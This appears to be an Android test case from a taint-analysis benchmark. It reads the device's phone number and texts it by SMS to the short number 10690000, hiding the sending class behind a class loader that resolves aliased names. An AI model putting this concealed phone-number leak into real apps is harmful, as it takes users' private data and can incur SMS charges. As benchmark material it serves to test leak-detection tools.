// about       The app's own class loader finds the class that sends under another name.
// leak        PHONE_NUMBER sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.util.HashMap;
import java.util.Map;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    ClassLoader loader = new AliasLoader(getClassLoader());
    try {
      Plug plug = (Plug) loader.loadClass("plug.standard").newInstance();
      plug.take(phone.getLine1Number());
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }
}

class AliasLoader extends ClassLoader {
  private final Map<String, String> names = new HashMap<String, String>();

  AliasLoader(ClassLoader parent) {
    super(parent);
    // What is behind the names.
    names.put("plug.standard", "cn.example.flow.SmsPlug");
    names.put("plug.quiet", "cn.example.flow.QuietPlug");
  }

  @Override
  protected Class<?> findClass(String name) throws ClassNotFoundException {
    return getParent().loadClass(names.get(name));
  }
}

interface Plug {
  void take(String text);
}

class SmsPlug implements Plug {
  @Override
  public void take(String text) {
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }
}

class QuietPlug implements Plug {
  @Override
  public void take(String text) {
    Log.i("flow", "quiet");
  }
}
